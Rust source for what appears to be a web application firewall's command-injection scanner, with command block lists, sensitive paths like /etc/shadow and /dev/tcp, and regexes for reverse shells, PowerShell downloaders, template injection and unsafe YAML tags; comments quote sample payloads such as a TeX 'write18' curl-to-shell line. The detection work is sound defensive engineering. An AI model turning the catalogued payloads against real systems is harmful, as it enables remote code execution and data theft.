//! Command injection: a small shell-syntax scanner, not a keyword list.
//!
//! The scanner splits the decoded value into command positions (start of input, after `;`, `|`,
//! `&`, `&&`, `||`, newline, backtick, `$(`, `<(`, `(`, `{`), cleans each command word the way a
//! shell would (quotes, backslashes, `$@`, `${IFS}`, globs, paths, `.exe`) and checks it against
//! known Unix and Windows commands. Common English words that are also commands (`cat`, `find`,
//! `date`) need shell-like evidence around them (an option, a path, a redirection, end of input)
//! so prose such as "black & white; more later" stays clean. Regex rules cover shellshock,
//! reverse-shell idioms, Windows interpreters and template injection.

use std::collections::HashSet;

use super::{Patterns, Sink};
use crate::normalise::Variants;
use crate::rules::*;
use crate::settings::WafError;

/// Commands that are rarely plain words: a separator followed by one of these is enough.
const STRONG_COMMANDS: &[&str] = &[
    "adduser",
    "ansible",
    "ansible-console",
    "ansible-galaxy",
    "ansible-playbook",
    "apt-get",
    "awk",
    "base32",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "bzcat",
    "bzip2",
    "capsh",
    "certutil",
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "chpasswd",
    "chroot",
    "cmd",
    "cpulimit",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "dash",
    "deluser",
    "dmesg",
    "docker",
    "dropbear",
    "egrep",
    "fgrep",
    "fping",
    "gawk",
    "gcc",
    "gdb",
    "getfacl",
    "groupadd",
    "gunzip",
    "gzip",
    "hexdump",
    "hostname",
    "icacls",
    "ifconfig",
    "insmod",
    "ipconfig",
    "iptables",
    "irb",
    "jjs",
    "journalctl",
    "jrunscript",
    "ksh",
    "kubectl",
    "lastlog",
    "lftp",
    "lsmod",
    "lsof",
    "ltrace",
    "lzcat",
    "mkfifo",
    "mknod",
    "modprobe",
    "mshta",
    "msiexec",
    "mysql",
    "nc",
    "ncat",
    "netcat",
    "netsh",
    "netstat",
    "nltest",
    "nmap",
    "nohup",
    "nsenter",
    "nslookup",
    "openssl",
    "passwd",
    "perf",
    "perl",
    "pgrep",
    "php",
    "php-cgi",
    "pip",
    "pip3",
    "pkexec",
    "pkill",
    "podman",
    "powershell",
    "printenv",
    "psql",
    "pwsh",
    "python",
    "python2",
    "python3",
    "rcp",
    "reg",
    "regsvr32",
    "rm",
    "rmdir",
    "rmt",
    "rmt-tar",
    "rsync",
    "runc",
    "rundll32",
    "schtasks",
    "scp",
    "sed",
    "setsid",
    "sftp",
    "sh",
    "socat",
    "sqlite3",
    "ssh",
    "strace",
    "sudo",
    "systemctl",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "telnetd",
    "tftp",
    "traceroute",
    "tracert",
    "tshark",
    "uname",
    "unshare",
    "useradd",
    "userdel",
    "usermod",
    "utelnetd",
    "vipw",
    "visudo",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xargs",
    "xterm",
    "xxd",
    "xzcat",
    "zcat",
    "zsh",
    "zstd",
    "zstdcat",
];

/// Commands that are also ordinary words (or very short): they need shell-like evidence.
const WEAK_COMMANDS: &[&str] = &[
    "arp", "cat", "cd", "chdir", "cmp", "cp", "cut", "date", "dd", "del", "df", "diff", "dig",
    "dir", "du", "echo", "env", "eval", "exec", "expr", "file", "find", "finger", "ftp", "gem",
    "git", "grep", "groups", "head", "history", "host", "id", "ip", "irm", "iwr", "java", "kill",
    "killall", "last", "less", "ln", "ls", "lua", "mail", "make", "mkdir", "more", "mount", "mv",
    "net", "nl", "node", "npm", "od", "ping", "printf", "ps", "pwd", "rev", "route", "ruby", "sc",
    "service", "set", "sleep", "sort", "source", "stat", "strings", "su", "tac", "tail", "tar",
    "tee", "time", "timeout", "touch", "tr", "type", "uniq", "unzip", "ver", "vi", "vim", "wc",
    "which", "who", "xcopy", "zip",
];

/// Weak commands that do nothing without an argument: they read standard input (which an
/// injected command does not get), or print their usage. One of them ending a list
/// (`content-type;host`, an AWS signature's signed headers; `a|sort`) runs nothing.
const NEED_ARGUMENT: &[&str] = &[
    "cat", "cmp", "cp", "cut", "del", "diff", "dig", "expr", "file", "grep", "head", "host",
    "kill", "killall", "ln", "mkdir", "mv", "nl", "od", "ping", "printf", "rev", "sleep", "sort",
    "source", "stat", "strings", "tac", "tail", "tee", "timeout", "touch", "tr", "type", "uniq",
    "unzip", "wc", "which", "xcopy", "zip",
];

/// Commands that are an attack even with nothing around them (`whoami` as a value).
const ALONE_COMMANDS: &[&str] = &[
    "ifconfig",
    "ipconfig",
    "netstat",
    "printenv",
    "systeminfo",
    "tasklist",
    "uname",
    "whoami",
];

/// Words that may precede the real command (`sudo id`, `nohup nc …`, `env X=1 sh`).
const PREFIX_WORDS: &[&str] = &[
    "builtin", "command", "doas", "env", "exec", "nice", "nohup", "sudo", "time", "timeout",
    "xargs",
];

/// Paths worth matching against globbed tokens (`/e??/p?ss*`).
const GLOB_TARGETS: &[&str] = &[
    "/bin/bash",
    "/bin/busybox",
    "/bin/cat",
    "/bin/dash",
    "/bin/ls",
    "/bin/nc",
    "/bin/netcat",
    "/bin/sh",
    "/dev/tcp",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/proc/self/environ",
    "/usr/bin/curl",
    "/usr/bin/env",
    "/usr/bin/id",
    "/usr/bin/nc",
    "/usr/bin/perl",
    "/usr/bin/python",
    "/usr/bin/wget",
    "/usr/bin/whoami",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    /// Start of the value.
    Start,
    /// `;`, `|`, `&`: chaining that also appears in prose.
    Weak,
    /// `(`, `{`: grouping, common in prose and addresses (`Roma (RM)`).
    Group,
    /// Newline: common in multi-line text, needs the most evidence.
    Newline,
    /// `&&`, `||`: chaining that prose rarely has.
    Chain,
    /// Backtick, `$(`, `<(`, `>(`: command substitution.
    Substitution,
    /// A backtick that opens a Markdown code span in prose (see [`code_spans`]).
    CodeSpan,
}

pub(crate) struct Rce {
    strong: HashSet<&'static str>,
    weak: HashSet<&'static str>,
    pub(super) patterns: Patterns,
    header_patterns: Patterns,
}

impl Rce {
    pub(crate) fn new() -> Result<Self, WafError> {
        let patterns = Patterns::new(&[
            (RCE_SHELLSHOCK, r"^\s*\(\s*\)\s*\{"),
            (RCE_SHELLSHOCK, r"\(\s*\)\s*\{\s*:?\s*;\s*\}\s*;"),
            (RCE_SUBSTITUTION, r"\$\{?ifs\b"),
            (RCE_SUBSTITUTION, r"/dev/(?:tcp|udp)/"),
            (
                RCE_SUBSTITUTION,
                r"\bbash\s+-[a-z]*i\b|\bsh\s+-c\s|\bmkfifo\s|\bnc(?:at)?\s[^;|&\n]{0,80}\s-[a-z]*[ec]\b",
            ),
            (
                RCE_SUBSTITUTION,
                r"\b(?:python[23]?|perl|ruby|php|node)\s+-[a-z]*[ecr]\s+['\x22]",
            ),
            // `cmd.exe` alone, except as a quoted name that a query or a rule compares
            // with (`process.name : "cmd.exe"` in a detection rule).
            (
                RCE_WINDOWS,
                r#"\bcmd(?:\.exe)?['\x22]?\s*(?:,\s*['\x22])?/[ckr]\b|(?:^|[^'\x22])\bcmd\.exe\b|\bcmd\.exe(?:$|[^'\x22])"#,
            ),
            (
                RCE_WINDOWS,
                r"\b(?:powershell|pwsh)(?:\.exe)?\s+(?:[^\n]{0,80}\s)?-(?:c|command|e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|executionpolicy|ep|file)\b",
            ),
            (
                RCE_WINDOWS,
                // PowerShell's downloaders, sockets (reverse shells) and expression runners, also
                // fed by a pipe or a variable (`... | iex`, `iex $d`).
                r"\b(?:invoke-expression|invoke-webrequest|invoke-restmethod|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($])|\|\s*iex\b",
            ),
            (
                RCE_WINDOWS,
                // A new name for PowerShell's expression runner or downloaders
                // (`sal x iex`, `Set-Alias -Name x -Value Invoke-Expression`).
                r"\b(?:sal|set-alias|nal|new-alias)\s+(?:-name\s+)?[a-z0-9_-]+\s+(?:-value\s+)?\(?\s*['\x22]?(?:iex|invoke-expression|iwr|irm|invoke-webrequest|invoke-restmethod|saps|start-process)\b",
            ),
            (
                RCE_WINDOWS,
                r"(?:^|[;&|])\s*net1?\s+(?:user|localgroup|group|share|view|use|accounts|session|config|start|stop)\b",
            ),
            (
                RCE_WINDOWS_BATCH,
                // `for [/d /r /l /f] [path or "options"] %v in (set)`: the variable may be any
                // run of characters after one or two `%` (`%%G`, `%variable`, `%2`, `%~`).
                r"\bfor\s+(?:/[dflr]\s+)*(?:(?:\x22[^\x22]*\x22|[^\s%]+)\s+)?%%?[^\s%]*\s+in\s*\(",
            ),
            (
                RCE_WINDOWS_BATCH,
                r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|errorlevel\s+[0-9]|cmdextversion\s|\x22[^\x22]{0,80}\x22\s*(?:==|(?:equ|neq|lss|leq|gtr|geq)\s)|%[^%\s]{1,40}%\s*(?:==|(?:equ|neq|lss|leq|gtr|geq)\s)|[^\s]{1,40}\s*==\s*[^\s]+\s+(?:\(|echo|goto|call|set|exit|del|copy|start|cmd)\b)",
            ),
            (
                RCE_WINDOWS_BATCH,
                // cmd's own comparison words between any operands (`if (2 geq 15)`,
                // `if [%1] equ []`), and `==` after an operand cmd scripts wrap in brackets or
                // braces, or that holds a `%` variable (`if [%1]==[]`, `if {%1} == {}`,
                // `if (aa) == (aa)`, `if %p%==x`).
                r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:\(\s*)?(?:\x22[^\x22]*\x22|[^\s()]+)\s+(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:/i\s+)?(?:not\s+)?(?:\[[^\]\n]*\]|\{[^}\n]*\}|\([^)\n]*\)|[^\s=]*%[^\s=]+)\s*==",
            ),
            (
                RCE_WINDOWS_BATCH,
                // `if a==b cmd` opening a line or following a command separator: operands
                // glued to `==` and a command after them. A line with a `:` or `{` after the
                // comparison is Python or a C-like language, not cmd.
                r"(?m)(?:^|[&|;])\s*if\s+(?:/i\s+)?(?:not\s+)?[^\s=:()'\x22{}]+===?[^\s=:()'\x22{}]+\s+[^\s:{][^\n:{]*$",
            ),
            (
                RCE_ALIAS,
                // `alias a=curl`, `alias -p x='id'`: a new name for a command, defined where a
                // command starts (the value's start, after a separator or in a substitution).
                r"(?m)(?:^|[;&|`]|\$\()\s*alias\s+(?:[-+][a-z+]*\s+)*['\x22]?[a-z0-9_.:+-]+['\x22]?=[^\s=]",
            ),
            (
                RCE_WINDOWS,
                // The variables that lead to the system's programs (`%COMSPEC%` is cmd.exe); the
                // user's folders (`%APPDATA%\App\profile.ovpn`) are named in help texts.
                r"%(?:comspec|systemroot|windir)%",
            ),
            (
                RCE_WINDOWS,
                // cmd.exe's substring of a variable (`%COMSPEC:~-7,3%` is `cmd`,
                // `%PROGRAMFILES:~10,1%` a space): letters pulled out of the environment to
                // spell what a filter looks for. No text but a batch file writes it.
                r"%[a-z_][a-z0-9_()]{1,30}:~\s*-?\d{1,3}(?:\s*,\s*-?\d{1,3})?%",
            ),
            (
                RCE_SHELL_VARIABLE,
                r"\$\{[a-z_][a-z0-9_]*(?:[:#%/^,][^}]{0,40})?\}|\$(?:home|path|user|shell|pwd|random|hostname|bash_version|ps1)\b|@\{\s*\[",
            ),
            (
                RCE_SHELL_VARIABLE,
                r"(?:^|\s)[0-9]?>{1,2}\s*/(?:tmp|dev|etc|var|home)/|(?:^|\s)<\s*/(?:etc|proc|dev)/",
            ),
            (
                RCE_SSTI,
                r"__(?:class|mro|subclasses|globals|builtins|import|init|base|bases|getattribute|reduce|dict)__",
            ),
            (
                RCE_SSTI,
                r"\{\{(?:\s*|[^}]{0,120}[^.a-z0-9_])(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
            ),
            // A template expression that runs SQL (`{{ frappe.db.sql("select … from __Auth")
            // }}`), and Odoo's environment lifted to the superuser
            // (`object.env['res.users'].sudo()`) in a mail or QWeb template.
            (
                RCE_SSTI,
                r#"\{\{[^}]{0,120}\.\s*(?:sql|sql_list|sql_ddl|execute)\s*\(\s*['"]|\benv\s*\[\s*['"][a-z_.]+['"]\s*\]\s*\.\s*sudo\s*\("#,
            ),
            // Statements that reach outside the template (Tornado's `import`, Django's `load`
            // and `debug`); `for`, `extends`, `set` and the like are every template's own
            // syntax, counted from paranoia 2 (their dangerous forms have dunders).
            (
                RCE_SSTI,
                r"\{%\s*(?:import|include|exec|debug|load|module)\b[^%]{0,200}%\}",
            ),
            (
                RCE_SSTI_LOOSE,
                r"\{%\s*(?:extends|set|for|macro|call|filter|raw)\b[^%]{0,200}%\}",
            ),
            // ERB, EEx and JSP scriptlets that run a command; XSLT functions that read the
            // processor's properties, files or call into the host language.
            (
                RCE_SSTI,
                r"<%[=-]?[^%]{0,200}(?:\bsystem\.cmd\b|:os\.cmd\b|\bsystem\s*\(|\bexec\s*\(|\bspawn\s*\(|\bio\.popen\b|%x\{|`[^`%]{1,80}`)[^%]{0,200}%>|\bsystem-property\s*\(\s*['\x22]xsl:|\bunparsed-text\s*\(|\bphp:function\s*\(|\bxalan:|\bjava:java\.lang\.",
            ),
            // Ghostscript's `%pipe%` output device runs its argument (`/OutputFile
            // (%pipe%curl ...|sh)` in an EPS); ExifTool read DjVu metadata as Perl
            // (`(metadata "\c${system('id')};")`, CVE-2021-22204).
            (
                RCE_CONVERTER_COMMAND,
                r#"%pipe%|\(\s*metadata\s[^)]{0,200}(?:\\c|\$\{|@\{)"#,
            ),
            // Ruby's ways to run a command that the shell and function-call rules do not see:
            // `Process.spawn("id")`, `Open3.capture2(…)`, `PTY.spawn`, `%x(id)`, and a call by
            // name (`send(:system, "id")`). `%x` counts only after a separator, not in a
            // printf format (`0x%x(`, `"%x(%d)"`); in braces, only around more than one word,
            // not as a log layout's `%X{traceId}` or `%X{traceId:-}`.
            (
                RCE_RUBY,
                r#"\b(?:process\s*\.\s*spawn|pty\s*\.\s*spawn|open3\s*\.\s*(?:popen[23e]*|capture[23e]*|pipeline[a-z_]*)|kernel\s*\.\s*(?:spawn|open|`))\s*[('\x22]|(?:^|[\s;(=,&|{])%x(?:\{[^}\s]{0,200}\s[^}]{0,200}\}|[(\[<|!][^)\]>|!]{1,200}[)\]>|!])|\b(?:send|public_send|__send__)\s*\(?\s*[:'\x22](?:system|exec|spawn|eval|instance_eval|class_eval|syscall)['\x22]?\s*[,)]"#,
            ),
            // Redis commands that turn the server against its host, as a line of their own
            // (smuggled to Redis through `gopher://` or a CRLF) or as the segments of a path
            // (Webdis, Redis over HTTP): `CONFIG SET dir /var/spool/cron`, `SLAVEOF <ip>` to
            // a rogue master, `MODULE LOAD /tmp/x.so`.
            (
                RCE_REDIS,
                r"(?:^|[\r\n/])\s*(?:config\s*[\s/]\s*set\s*[\s/]\s*(?:dir|dbfilename)\b|(?:slaveof|replicaof)\s*[\s/]\s*[0-9a-z]+[.:]|module\s*[\s/]\s*load\s*[\s/][^\s]*\.so\b)",
            ),
            // TeX's shell escape: `\write18{…}` runs its text as a command where the compiler
            // allows it (`\immediate\write18{curl … | sh}`), and `\input{|"cmd"}` reads a
            // command's output. Backslash decoding may have taken the `\` off.
            (
                RCE_TEX_SHELL,
                r#"(?:^|[^a-z0-9_])write18\s*\{|(?:^|[^a-z0-9_])input\s*\{\s*['\x22]?\|\s*['\x22]?[a-z]"#,
            ),
            // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`, also
            // after a long expression, as far as the cell goes), and a
            // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
            (
                RCE_FORMULA,
                r#"(?:^|[\n,;\t\x22])\s*[=+@-][^\n,\x22|]{0,200}?\b[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
            ),
            (
                RCE_SSTI,
                r"<#assign\b|freemarker\.template|\?new\s*\(|#set\s*\(\s*\$|\$class\.inspect|\.getclass\(\)\.forname",
            ),
            (
                RCE_SSTI,
                r"<!--\s*#\s*(?:exec|include|echo|set|config|fsize|flastmod|printenv)\b",
            ),
            // Arithmetic probes: `{{7*'7'}}`, `<%= 7*7 %>`, `${7*7}`, `#{7*7}`.
            (
                RCE_SSTI,
                r#"\{\{\s*[0-9]+\s*\*\s*['"]?[0-9]+['"]?\s*\}\}|<%=?\s*[0-9]+\s*\*\s*[0-9]+\s*%>|[$#]\{\s*[0-9]+\s*\*\s*[0-9]+\s*\}"#,
            ),
            // A polyglot probe: the openers of three template languages glued together
            // (`${{<%[%'"}}%\.`), sent to learn which engine errors.
            (
                RCE_SSTI,
                r#"(?:(?:\$\{|\{\{|<%|\[%|#\{|\{%|\*\{)[{'"\s]?){3}"#,
            ),
            // Twig: `{{['id']|filter('system')}}`.
            (
                RCE_SSTI,
                r#"\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"](?:system|exec|passthru|shell_exec|popen|proc_open)['"]"#,
            ),
            // YAML tags that make an unsafe loader build an object and call it:
            // `!!python/object/apply:os.system`, SnakeYAML's `!!javax.script.…`, Ruby's
            // `!ruby/object:Gem::…`.
            (
                RCE_YAML_TAG,
                r"!!python/(?:object|name|module)\b|tag:yaml\.org,2002:python/|!!(?:javax?|com\.sun|org\.springframework)\.|!ruby/(?:object|hash|struct|class)\b",
            ),
            // Magento's template filter reached from a directive
            // (`{{var this.getTemplateFilter().addAfterFilterCallback(system)...}}`,
            // CVE-2022-24086): it registers any function as a filter.
            (
                RCE_SSTI,
                r"\b(?:gettemplatefilter|addafterfiltercallback)\s*\(",
            ),
            // Solr's Velocity writer told to load templates from request parameters
            // (CVE-2019-17558): the next request's `v.template.*` runs as a template.
            (RCE_SSTI, r"params\.resource\.loader\.enabled"),
            // Twig 1.x: `{{_self.env.registerUndefinedFilterCallback("exec")}}`.
            (
                RCE_SSTI,
                r"\b_self\s*\.\s*env\s*\.|registerundefinedfiltercallback",
            ),
            // Options that make curl or wget write what they fetch to a script the web
            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`), sendmail's
            // `-X` log file (SquirrelMail's and PHPMailer's argument injection), Exchange's
            // `New-MailboxExportRequest -FilePath` (ProxyShell), and the JVM's `vmLog output=`
            // and `JFR.start duration=… filename=` (through Jolokia's DiagnosticCommand)
            // writing a log or a recording there. A log line's `filename=/srv/app/index.php`
            // alone is not one.
            (
                RCE_ARGUMENT_INJECTION,
                r#"(?:^|\s)(?:-o\s*|-x\s*|-filepath\s+|--output(?:-document|-dir)?(?:\s+|\s*=\s*)|output\s*=\s*|duration\s*=\s*[0-9]+[a-z]*\s+(?:[a-z]+=\S*\s+){0,4}filename\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
            ),
            // Options that make git, ssh, tar, rsync, helm or npm run a command of the
            // caller's choosing.
            (
                RCE_ARGUMENT_INJECTION,
                r"(?:^|\s)(?:--(?:upload-pack|receive-pack|exec|checkpoint-action|to-command|use-compress-program|rsh)\s*=|--(?:post-renderer|script-shell)(?:\s+|\s*=\s*)[^\s-]|-o\s*['\x22]?(?:proxycommand|localcommand)\s*=|(?:-c|--config)[\s=]+core\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)\s*=)",
            ),
            (RCE_SSTI_LOOSE, r"<%=?[^%]{1,200}%>"),
            (
                RCE_SSTI_LOOSE,
                r"\{\{[^}]{0,200}[*+/(|-][^}]{0,200}\}\}|\{\{\s*[a-z_][a-z0-9_.]*\s*\}\}",
            ),
            (
                RCE_SSTI_LOOSE,
                r"[$#]\{\s*[0-9]+\s*[*+/-]\s*[0-9]+\s*\}|\$\{\{|\[\[\s*\$\{",
            ),
        ])?;
        let header_patterns = Patterns::new(&[
            (RCE_SHELLSHOCK, r"^\s*\(\s*\)\s*\{"),
            (RCE_SHELLSHOCK, r"\(\s*\)\s*\{\s*:?\s*;\s*\}\s*;"),
        ])?;
        Ok(Self {
            strong: STRONG_COMMANDS.iter().copied().collect(),
            weak: WEAK_COMMANDS.iter().copied().collect(),
            patterns,
            header_patterns,
        })
    }

    /// `values` is true for argument values (where a leading bare command is worth a look at
    /// higher paranoia); false for names, paths and free-text headers.
    pub(crate) fn scan(
        &self,
        v: &Variants,
        sink: &mut Sink<'_>,
        values: bool,
        lower_may_match: bool,
    ) {
        if lower_may_match {
            self.patterns.scan(v.lower(), sink);
        }
        if sink.wants(RCE_CHAINED_COMMAND)
            || sink.wants(RCE_SUBSTITUTION)
            || sink.wants(RCE_OBFUSCATED_COMMAND)
            || sink.wants(RCE_GLOB_PATH)
            || sink.wants(RCE_BRACE_EXPANSION)
            || (values && (sink.wants(RCE_LEADING_COMMAND) || sink.wants(RCE_LEADING_LOOSE)))
        {
            self.shell_scan(v.shell(), sink, values);
        }
    }

    /// Headers other than `User-Agent` and `Referer`: shellshock, and the pattern rules
    /// (`${IFS}`, `/dev/tcp/`, template injection, ...), which need no shell scan.
    pub(crate) fn scan_header(&self, v: &Variants, sink: &mut Sink<'_>, lower_may_match: bool) {
        self.scan_shellshock(v, sink);
        if lower_may_match {
            self.patterns.scan(v.lower(), sink);
        }
    }

    /// A function definition that bash imports from the environment, where CGI servers put
    /// every header.
    pub(crate) fn scan_shellshock(&self, v: &Variants, sink: &mut Sink<'_>) {
        self.header_patterns.scan(v.lower(), sink);
    }

    pub(crate) fn scan_filename(&self, v: &Variants, sink: &mut Sink<'_>) {
        let name = super::stored_file_name(v);
        let base = name.rsplit(['/', '\\']).next().unwrap_or("");
        // What a web server runs, or reconfigures itself by, where it stores the upload.
        let served = [
            ".htaccess",
            ".htpasswd",
            ".user.ini",
            "web.config",
            ".jsp",
            ".jspx",
            ".asp",
            ".aspx",
            ".ashx",
            ".asmx",
            ".shtml",
            ".cgi",
            ".pl",
            ".war",
        ];
        // Programs that run only when someone runs them: homework, CI scripts and tools are
        // uploaded as these every day.
        let programs = [
            ".sh", ".bash", ".py", ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".jar", ".hta", ".scr",
            ".wsf",
        ];
        // A right-to-left override reverses what follows it on screen: `invoice\u{202E}fdp.hta`
        // shows as `invoiceath.pdf`. No honest file name needs one to read right (isolates,
        // which chat exports put in names, reverse nothing).
        if v.raw.contains('\u{202E}') || v.raw.to_ascii_lowercase().contains("%e2%80%ae") {
            sink.hit(RCE_UPLOAD_DISGUISED, base, 0);
        }
        if served.iter().any(|s| base.ends_with(s)) {
            sink.hit(RCE_UPLOAD_SCRIPT, base, 0);
        } else if programs.iter().any(|s| base.ends_with(s)) {
            sink.hit(RCE_UPLOAD_PROGRAM, base, 0);
        }
    }

    fn is_command(&self, word: &str) -> Option<bool> {
        if self.strong.contains(word) {
            return Some(true);
        }
        if self.weak.contains(word) {
            return Some(false);
        }
        None
    }

    /// Glob words (`ca?`, `/???/n?`) that match a known command; needs two literal characters
    /// so a lone `??` is not a command.
    fn glob_command(&self, word: &str) -> bool {
        // A bracket expression stands for one character: `*[other]` (Fluent's default
        // variant) fixes one letter of a name, which no command search relies on. One of
        // more than four characters picks no letter a disguise needs (`c[a]t`, `[a-c]at`):
        // it is another syntax's bracket (Overpass QL's `[out:json][timeout:25]`).
        let mut literal = 0;
        let mut in_bracket = false;
        let mut class = 0;
        for b in word.bytes() {
            match b {
                b'[' if !in_bracket => {
                    in_bracket = true;
                    literal += 1;
                    class = 0;
                }
                b']' => in_bracket = false,
                _ if in_bracket => {
                    class += 1;
                    if class > 4 {
                        return false;
                    }
                }
                _ if b.is_ascii_alphanumeric() => literal += 1,
                _ => {}
            }
        }
        if literal < 2 || word.len() > 32 {
            return false;
        }
        self.strong
            .iter()
            .chain(self.weak.iter())
            .any(|c| c.len() >= 2 && glob_match(word.as_bytes(), c.as_bytes()))
    }

    fn shell_scan(&self, text: &str, sink: &mut Sink<'_>, values: bool) {
        let b = text.as_bytes();
        // A value anchored at both ends, with no blank space, `;`, `&`, backtick or
        // substitution in it (`^[a-z0-9]([-a-z0-9]*[a-z0-9])?$`, a schema's `pattern`), is a
        // regular expression: its classes and stars are no glob.
        let regex = b.first() == Some(&b'^')
            && b.last() == Some(&b'$')
            && !b
                .iter()
                .any(|c| c.is_ascii_whitespace() || b";&`".contains(c))
            && !text.contains("$(")
            && !text.contains("${");
        let (fences, spans, quotes) = if memchr::memchr(b'`', b).is_some() {
            let fences = fences(b);
            let spans = code_spans(b, &fences);
            (fences, spans, tex_quotes(b))
        } else {
            (Vec::new(), Vec::new(), Vec::new())
        };
        let mut quotes = quotes.iter().peekable();
        let mut fences = fences.iter().peekable();
        // Fence lines come in pairs: an opener, then its closer.
        let mut opener = true;
        let mut spans = spans.iter().peekable();
        let mut i = 0;
        let mut sep = Sep::Start;
        let mut expect_cmd = true;
        let mut words = 0;
        let mut sep_end = 0;
        // Variables this value assigns where a command starts (`X=$'id'`), a few at most.
        let mut assigned: Vec<&str> = Vec::new();
        while i < b.len() && words < 512 {
            let c = b[i];
            if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
                i += 1;
                continue;
            }
            // TeX's opening quotation marks: the prose goes on.
            if quotes.peek() == Some(&&i) {
                quotes.next();
                expect_cmd = false;
                i += 2;
                continue;
            }
            // A fence line's backticks and language are markup. The code's first command is
            // read as one in a code span: it needs shell evidence, or to harm alone.
            if let Some(&&(start, end)) = fences.peek()
                && i == start
            {
                fences.next();
                if opener {
                    sep = Sep::CodeSpan;
                    expect_cmd = true;
                    sep_end = end;
                }
                opener = !opener;
                i = end;
                continue;
            }
            if let Some(&&(open, close)) = spans.peek() {
                if i == open {
                    sep = if expect_cmd && sep != Sep::Start {
                        strongest(sep, Sep::CodeSpan)
                    } else {
                        Sep::CodeSpan
                    };
                    expect_cmd = true;
                    i += 1;
                    sep_end = i;
                    continue;
                }
                if i == close {
                    // The prose goes on after the span: its next word is no command.
                    spans.next();
                    expect_cmd = false;
                    i += 1;
                    continue;
                }
            }
            if let Some((s, len)) = separator(b, i) {
                // Keep the strongest separator seen since the last word.
                sep = if expect_cmd && sep != Sep::Start {
                    strongest(sep, s)
                } else {
                    s
                };
                expect_cmd = true;
                i += len;
                sep_end = i;
                continue;
            }
            // A word: up to whitespace or a separator. A parameter expansion (`c${u}at`,
            // `${SHELL}`) is part of its word, braces and all.
            let start = i;
            while i < b.len()
                && !matches!(b[i], b' ' | b'\t' | 0x0B | 0x0C)
                && separator(b, i).is_none()
            {
                if b[i] == b'$'
                    && b.get(i + 1) == Some(&b'{')
                    && let Some(close) = b[i + 2..]
                        .iter()
                        .take(64)
                        .position(|&c| matches!(c, b'}' | b'{' | b'\n' | b' ' | b'`' | b'(' | b')'))
                        .filter(|&p| b[i + 2 + p] == b'}')
                {
                    i += close + 3;
                    continue;
                }
                i += 1;
            }
            words += 1;
            let raw = &text[start..i];
            self.glob_path(raw, text, start, sink);
            if !expect_cmd {
                continue;
            }
            // A redirection ends the command word (`cat</etc/passwd`, `rev<<<'di'`).
            let word = raw.split(['<', '>']).next().unwrap_or(raw);
            // A command word made only of variables runs what they hold: a shell (`$0`,
            // `${SHELL}`), or a command this value put in them (`a=i;b=d;$a$b`).
            // The shell's variables need a redirection or an argument after them, as `$0`
            // is also a price in prose.
            let clean = match expansion_names(word.trim_matches('"')) {
                Some(names)
                    if names.iter().any(|n| matches!(*n, "0" | "shell" | "bash"))
                        && (word.len() < raw.len()
                            || evidence_after(b, i) == Evidence::Argument) =>
                {
                    "sh".to_owned()
                }
                Some(names) if sep_end == start && names.iter().any(|n| assigned.contains(n)) => {
                    sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
                    expect_cmd = false;
                    continue;
                }
                _ => clean_word(word),
            };
            if clean.is_empty() {
                continue;
            }
            if is_assignment(&clean) {
                // A number is a value, not a command (`total=5;$total`).
                if assigned.len() < 8
                    && let Some((name, value)) = raw.split_once('=')
                    && value.bytes().any(|c| c.is_ascii_alphabetic())
                {
                    assigned.push(name);
                }
                continue;
            }
            if PREFIX_WORDS.contains(&clean.as_str()) {
                if raw_is_obfuscated(raw) {
                    sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
                }
                continue;
            }
            expect_cmd = false;
            // A brace list is one word, `{` to `}` (`{cat,/etc/passwd}`): a space ends it
            // (`{date, date, medium}` is an ICU message's argument, and no expansion).
            let brace = (raw.starts_with('{') || (start > 0 && b[start - 1] == b'{'))
                && b.get(i) == Some(&b'}');
            let (candidate, brace_list) = match clean.split_once(',') {
                Some((first, _)) if brace => (first.to_owned(), true),
                _ => (clean.clone(), false),
            };
            let kind = self.is_command(&candidate);
            // `**Exec` opening a line or following a space is Markdown's bold, not a
            // pattern: stars that only lead or close a word glob nothing a path search would
            // run. After a `;`, stars that only lead the word (`*RST;*CLS`, an instrument's
            // SCPI commands) cannot name a command of the path either: without a `/` they
            // match files of the working directory. Glued to code (`(1+9)*cmd|`, a
            // spreadsheet's DDE) they stay a pattern.
            let emphasis = raw.starts_with('*')
                && !candidate.trim_matches('*').contains(['?', '*', '['])
                && (start == 0
                    || b[start - 1].is_ascii_whitespace()
                    || (b[start - 1] == b';'
                        && !candidate.ends_with('*')
                        && !candidate.contains('/')));
            // A value that is one pattern without a `/` is a search (`Ma*`, `smi*`, a
            // crossword's `C*T`): such a glob expands against the files of the working
            // directory, not the commands of the path, so alone it runs nothing either.
            let prefix_search = sep == Sep::Start
                && candidate.len() > 1
                && !candidate.contains('/')
                && candidate
                    .bytes()
